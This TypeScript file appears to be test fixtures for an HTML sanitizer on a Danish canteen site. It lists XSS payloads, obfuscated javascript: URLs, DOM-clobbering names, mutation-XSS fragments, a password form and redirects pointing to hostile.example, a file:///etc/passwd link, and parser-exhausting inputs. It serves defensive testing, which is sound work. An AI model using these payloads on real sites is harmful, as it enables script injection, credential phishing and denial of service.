const nested = (tag: string, depth: number) => `<${tag}>`.repeat(depth) + 'dybt';
const encoded = [...'javascript:'].map((letter) => `&#${letter.charCodeAt(0)};`).join('');

/** What would give the page another look. */
const restyling = [
  '<style>body{display:none!important} nav{position:fixed;inset:0;background:red}</style>',
  '<style>@import "https://hostile.example/a.css";</style>',
  '<link rel="stylesheet" href="https://hostile.example/a.css"><link rel="icon" href="/x.png">',
  '<p style="position:fixed;inset:0;z-index:99999;background:#000">Over det hele</p>',
  '<div style="position:absolute;top:-9999px;left:-9999px;width:99999px">Uden for</div>',
  '<p style="margin:-400px 0 0 -400px;font-size:900px;transform:scale(90)">Stort</p>',
  '<div class="prose table-place frame footer" id="indhold">Klasser og id</div>',
  '<font size="999" color="red" face="Comic Sans MS">Stor skrift</font><center>Midt</center><big><big>Større</big></big>',
  '<img src="/storage/logo.svg" width="99999" height="99999" alt="Stort billede">',
  '<img src="/storage/logo.svg" width="1" height="9999" alt="Højt billede">',
  '<img src="/storage/logo.svg" width="100%" height="9000%" hspace="900" vspace="900" border="900" align="right" alt="">',
  '<table width="99999" height="99999" border="99" cellpadding="999" bgcolor="red"><tr><td width="99999" height="9999" nowrap>Bred</td></tr></table>',
  '<table><tr><td colspan="100000" rowspan="100000">Mange</td><td>To</td></tr></table>',
  `<table><tr>${'<td>Celle</td>'.repeat(200)}</tr></table>`,
  '<marquee behavior="alternate" scrollamount="99" width="9999">Ruller</marquee><blink>Blinker</blink>',
  '<details open ontoggle="alert(1)"><summary>Mere</summary>Indhold</details>',
  '<dialog open style="inset:0">Dialog</dialog><dialog open><form method="dialog"><button>Luk</button></form></dialog>',
  '<button popovertarget="p">Åbn</button><div id="p" popover="auto" onbeforetoggle="alert(1)">Over</div>',
  '<div hidden>Skjult</div><p inert contenteditable="true" draggable="true" tabindex="1" accesskey="s">Ret mig</p>',
  '<body class="x" style="display:none" bgcolor="red" text="red" link="red"><html lang="en" dir="rtl"><title>Overtaget</title>',
  '<frameset rows="*"><frame src="https://hostile.example/"></frameset>',
  '<hr width="99999" size="9999" color="red"><pre width="9999">' + 'x'.repeat(4000) + '</pre>',
  `<p>${'langtordudenmellemrum'.repeat(300)}</p>`,
  `<h1>${'Overskriftudenmellemrum'.repeat(60)}</h1><h6>Dybt</h6><h1>Igen</h1>`,
  '<ol start="999999999"><li value="-999999999">Tal</li></ol>',
  '<p dir="rtl">Fra højre</p><bdo dir="rtl">Vendt</bdo><div dir="rtl"><table><tr><td>Vendt</td></tr></table></div>',
  '<p>Vendt \u202eom\u202d \u2067her\u2066 og videre</p>\u202e\u202e\u202e',
  `<p>${'Z\u0351\u0343\u0352\u0301'.repeat(200)}</p>`,
];

/** What would take the person or what was typed elsewhere. */
const navigating = [
  '<meta http-equiv="refresh" content="0;url=https://hostile.example/">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="viewport" content="width=9999">',
  '<base href="https://hostile.example/" target="_blank"><a href="om-os">Om os</a>',
  '<form action="https://hostile.example/"><input name="kodeord" autofocus><button>Send</button></form>',
  '<form id="f" action="/api/v1/tokens" method="post"></form><button form="f" formaction="https://hostile.example/">Send</button>',
  '<input type="image" src="https://hostile.example/a.gif" formaction="javascript:alert(1)">',
  '<iframe src="https://hostile.example/"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="https://hostile.example/"></object><embed src="https://hostile.example/"><applet code="x"></applet>',
  '<portal src="https://hostile.example/"></portal><fencedframe></fencedframe>',
  '<a href="https://hostile.example/" target="_blank" ping="https://hostile.example/ping" download="virus.exe">Ud</a>',
  '<a href="//hostile.example/">Uden protokol</a><a href="\\\\hostile.example">Skråstreger</a><a href="/\\hostile.example">Blandet</a>',
  '<a href="https:hostile.example">Uden skråstreger</a><a href="http://localhost@hostile.example/">Som hjemme</a>',
  '<map name="m"><area shape="default" href="javascript:alert(1)"></map><img usemap="#m" src="/storage/logo.svg" alt="">',
  '<a href="#" name="location" id="document">Navn</a><img name="cookie" src="/storage/logo.svg" alt="">',
  '<link rel="prefetch" href="https://hostile.example/"><link rel="preload" as="script" href="https://hostile.example/a.js">',
  '<video autoplay src="https://hostile.example/a.mp4" poster="https://hostile.example/a.png"></video><audio autoplay src="https://hostile.example/a.mp3"></audio>',
  '<picture><source srcset="https://hostile.example/a.png"><img srcset="https://hostile.example/b.png 2x" alt="x"></picture>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">Tegning</text></a><use href="https://hostile.example/a.svg#x"/></svg>',
  '<svg><image href="https://hostile.example/a.png"/><foreignObject><iframe src="https://hostile.example/"></iframe></foreignObject></svg>',
  '<a href="/account/verify/hemmelig">Bekræft</a><a href="/api/v1/store">API</a><a href="/storage/menu.pdf">Menu</a>',
];

/** A link to a script, in every dress. */
const scriptLinks = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
  'java&NewLine;script:alert(1)',
  'java&Tab;script&colon;alert(1)',
  `${encoded}alert(1)`,
  '&#x6a;avascript&#58;alert(1)',
  'javascript&#0000058alert(1)',
  'javascript://%0aalert(1)',
  'javascript:%61lert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://hostile.example/1',
  'filesystem:https://hostile.example/1',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'intent://x#Intent;scheme=http;end',
  'file:///etc/passwd',
  'ftp://hostile.example/',
  'ws://hostile.example/',
  'sms:+4512345678',
  'about:blank',
].flatMap((href) => [`<a href="${href}">Klik her</a>`, `<img src="${href}" alt="Billede">`]);

/** Names that would shadow what the page and its libraries ask for. */
const shadowing = [
  'location',
  'document',
  'body',
  'cookie',
  'root',
  'kantineEarly',
  'kantine-page',
  'getElementById',
  'querySelector',
  'parentNode',
  'attributes',
  'nodeName',
  'constructor',
  '__proto__',
].map(
  (name) =>
    `<form name="${name}" id="${name}"><input name="${name}"><img name="${name}" id="${name}" src="/storage/logo.svg" alt=""></form><a id="${name}" name="${name}" href="#${name}">Navn</a>`,
);

/** What begins and does not end, or ends and did not begin. */
const unclosed = [
  '<p>Før<!-- aldrig slut',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><script>alert(1)</script>',
  '<p title="aldrig slut><script>alert(1)</script>',
  '<a href="/"><a href="/"><b><i><u><p><div><table><tr><td><ul><li>',
  '</p></div></main></body></html><script>alert(1)</script>',
  '</div></div></div></div></main><footer>Falsk fod</footer><nav>Falsk menu</nav>',
  '<textarea><title><xmp><noscript><noembed><noframes><img src=x onerror=alert(1)>',
  '<select><option><table><td></select><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]><?php alert(1) ?><!DOCTYPE html>',
  '<p title="<img src=x onerror=alert(1)>">Titel</p><img alt="<script>alert(1)</script>" src="/storage/logo.svg">',
  '<x-y onfocus=alert(1) tabindex=0 autofocus>Eget</x-y><slot name="x"></slot><template shadowrootmode="open"><script>alert(1)</script></template>',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %> [[alert(1)]]',
  '<<<<<<<<<<a>>>>>>>>>><3 kr. < 5 kr. & > 2 kr.',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>\uFEFF\uFFFF',
  '<plaintext>Resten er tekst<script>alert(1)</script>',
];

/** More than anybody writes. */
export const enormous: Readonly<Record<string, string>> = {
  'five megabytes of text': `<p>${'Rugbrød med ost. '.repeat(300_000)}</p>`,
  'twenty thousand brackets': '<'.repeat(20_000),
  'tags ten thousand deep': nested('div', 10_000),
  'lists two hundred deep': nested('ul><li', 200),
  'tables a hundred deep': nested('table><tr><td', 100),
  'formatting two hundred deep': nested('b><i', 200),
  'ten thousand attributes': `<p ${'on a="1" style="x" '.repeat(10_000)}>Ét afsnit</p>`,
};

export const own: readonly string[] = [
  ...restyling,
  ...navigating,
  ...scriptLinks,
  ...shadowing,
  ...unclosed,
];
